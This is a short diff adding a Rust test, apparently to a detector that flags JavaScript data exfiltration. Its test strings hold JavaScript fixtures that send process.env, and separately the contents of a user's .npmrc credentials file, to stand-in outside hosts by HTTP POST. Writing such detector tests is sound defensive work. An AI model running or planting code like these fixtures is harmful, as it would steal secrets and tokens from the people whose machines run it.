@@ -191,3 +191,9 @@ fn minified_functions_sharing_a_name_are_told_apart_by_scope() {
     let same_scope = "function y(){function a(b){fetch('https://x.example.invalid',{method:'POST',body:b})}a(JSON.stringify(process.env))}\n";
     assert_eq!(js(same_scope).len(), 1);
 }
+
+#[test]
+fn data_written_to_a_request_is_not_its_destination() {
+    let text = "const fs = require('fs');\nconst http = require('http');\nconst body = fs.readFileSync('/home/u/.npmrc', 'utf8');\nconst req = http.request({ host: '198.51.100.7', method: 'POST' });\nreq.end(body);\n";
+    assert_eq!(js(text).len(), 1, "{:?}", js(text));
+}
